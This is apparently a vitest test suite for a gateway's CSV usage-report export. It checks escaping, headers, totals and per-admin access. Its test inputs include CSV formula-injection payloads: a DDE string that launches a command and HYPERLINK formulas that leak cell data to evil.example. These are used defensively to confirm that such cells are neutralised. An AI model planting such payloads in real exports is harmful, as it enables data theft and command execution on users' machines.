import Papa from 'papaparse'
import { beforeAll, describe, expect, it } from 'vitest'
import { toCsv } from '../../src/usage/csv.ts'
import { createApi, type Page } from '../support/api.ts'
import { answerChat, chat, createAdmin, createGateway, createProvider, type Gateway } from '../support/gateway.ts'
import { aDay, addUp, readReport, SUMS, writeDays } from '../support/usage.ts'

/** What a spreadsheet would run, one way or another. */
const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '=1+1\nsecond line',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  '"=1+1"',
]
const HARMLESS = [
  '',
  'plain',
  '1-1',
  'a=b',
  'a,b',
  'a;b',
  'say "hi"',
  'two\nlines',
  'two\r\nlines',
  ' space ',
  'é漢字🙂',
  "it's",
]

const parse = (text: string) => Papa.parse<Record<string, string>>(text, { header: true })

describe('a file', () => {
  it('brings back what was put in', () => {
    const text = toCsv(
      ['name', 'amount', 'note'],
      HARMLESS.map((name, index) => ({ name, amount: index / 1e6, note: null })),
    )
    const { data, errors } = parse(text)
    expect(errors).toEqual([])
    expect(data).toEqual(HARMLESS.map((name, index) => ({ name, amount: String(index / 1e6), note: '' })))
    expect(text.split('\r\n')[0]).toBe('name,amount,note')
  })

  it.each(FORMULAS)('makes a text of %j', (name) => {
    const { data } = parse(toCsv(['name', 'after'], [{ name, after: 1 }]))
    expect(data).toHaveLength(1)
    const cell = data[0]!['name']!
    expect(cell.endsWith(name)).toBe(true)
    expect(cell).toMatch(/^['"]/)
    expect(data[0]!['after']).toBe('1')
  })

  it('has its header also where there is no row', () => {
    expect(toCsv(['name', 'amount'], [])).toBe('name,amount')
  })
})

describe('the usage report as a file', () => {
  const name = '=HYPERLINK("https://evil.example","x"),\r\nsecond'
  let gateway: Gateway
  let superKey: string
  let caller: { id: number; key: string; email: string; keyId: number }

  const download = (query: string, key = superKey) => gateway.fetch(`/api/v1/ai/usage/?${query}`, { key })
  const rowsOf = async (query: string, key?: string) => parse(await (await download(query, key)).text()).data

  beforeAll(async () => {
    gateway = createGateway({ upstream: () => answerChat() })
    superKey = (await createAdmin('super_admin')).key
    const admin = await createAdmin()
    const ownApi = createApi(gateway, admin.key)
    const { results } = (await ownApi<Page<{ id: number }>>('GET', '/api-keys')).body
    caller = { ...admin, keyId: results[0]!.id }
    expect((await ownApi('PATCH', `/api-keys/${caller.keyId}`, { name })).status).toBe(200)
    const parts = { model: '@cf/meta/llama', fields: { pricing_input: 1, pricing_output: 2 } }
    await createProvider(gateway, superKey, { slug: 'files', ...parts })
    expect(
      (await gateway.fetch('/v1/chat/completions', { key: caller.key, json: chat('files/@cf/meta/llama') })).status,
    ).toBe(200)
    await gateway.settle()
    const apiKeyId = caller.keyId
    await writeDays(caller.id, [
      aDay({
        day: '2031-05-05',
        apiKeyId,
        requests: 2,
        errors: 1,
        costMicroUsd: 1,
        audioMs: 1_500,
        latencies: '{"80":2}',
      }),
      aDay({ day: '2031-05-06', apiKeyId, errors: 1, providerSlug: 'two', providerId: 2, capability: 'audio' }),
    ])
  })

  it('comes with its type and a name', async () => {
    const month = new Date().toISOString().slice(0, 7)
    for (const [query, file] of [
      ['format=csv', month],
      ['format=csv&period=2031-05', '2031-05'],
      ['format=csv&from=2031-05-01&to=2031-05-15', '2031-05-01-to-2031-05-15'],
    ] as const) {
      const { status, headers } = await download(query)
      expect(status).toBe(200)
      expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
      expect(headers.get('content-disposition')).toBe(`attachment; filename="gatehouse-usage-${file}.csv"`)
    }
  })

  it('has all detail when nothing is said', async () => {
    const text = await (await download('format=csv&period=2031-05')).text()
    expect(text.split('\r\n')[0]).toBe(
      [
        'day,provider,model,admin_id,admin_email,api_key_id,api_key_name,capability,key_source',
        'requests,errors,input_tokens,cached_input_tokens,cache_write_tokens,output_tokens,reasoning_tokens,images,characters',
        'audio_seconds,video_seconds,cost_usd,unpriced_requests,latency_p50_ms,latency_p95_ms,latency_p99_ms',
      ].join(),
    )
    const [first, second, ...others] = parse(text).data
    expect(others).toEqual([])
    const key = {
      admin_id: String(caller.id),
      admin_email: caller.email,
      api_key_id: String(caller.keyId),
      api_key_name: `'${name}`,
      key_source: 'shared',
    }
    expect(first).toMatchObject({ ...key, day: '2031-05-05', provider: 'one', capability: 'chat', requests: '2' })
    expect(first).toMatchObject({ errors: '1', cost_usd: '0.000001', audio_seconds: '1.5', latency_p50_ms: '1069' })
    expect(second).toMatchObject({ ...key, day: '2031-05-06', provider: 'two', capability: 'audio', requests: '0' })
    expect(second).toMatchObject({ errors: '1', latency_p50_ms: '', latency_p99_ms: '' })
  })

  it('has the groups that are asked for, and the sum of the report', async () => {
    const rows = await rowsOf('format=csv&period=2031-05&group_by=provider')
    expect(rows.map((row) => [row['provider'], row['requests']])).toEqual([
      ['one', '2'],
      ['two', '0'],
    ])
    expect(Object.keys(rows[0]!).slice(0, 2)).toEqual(['provider', SUMS[0]])
    const { totals } = await readReport(createApi(gateway, superKey), '?period=2031-05')
    expect(addUp(rows)).toEqual(addUp([totals]))
  })

  it('has a call that was just made, and its model as a text', async () => {
    const [row] = await rowsOf('format=csv', caller.key)
    expect(row).toMatchObject({ provider: 'files', model: "'@cf/meta/llama", requests: '1', cost_usd: '0.000013' })
    expect(row!['day']).toBe(new Date().toISOString().slice(0, 10))
  })

  it('is of one’s own', async () => {
    const stranger = await createAdmin()
    expect(await rowsOf('format=csv&period=2031-05', stranger.key)).toEqual([])
    expect((await download(`format=csv&admin=${caller.id}`, stranger.key)).status).toBe(403)
    expect(await rowsOf(`format=csv&period=2031-05&api_key=${caller.keyId}`, stranger.key)).toEqual([])
  })
})
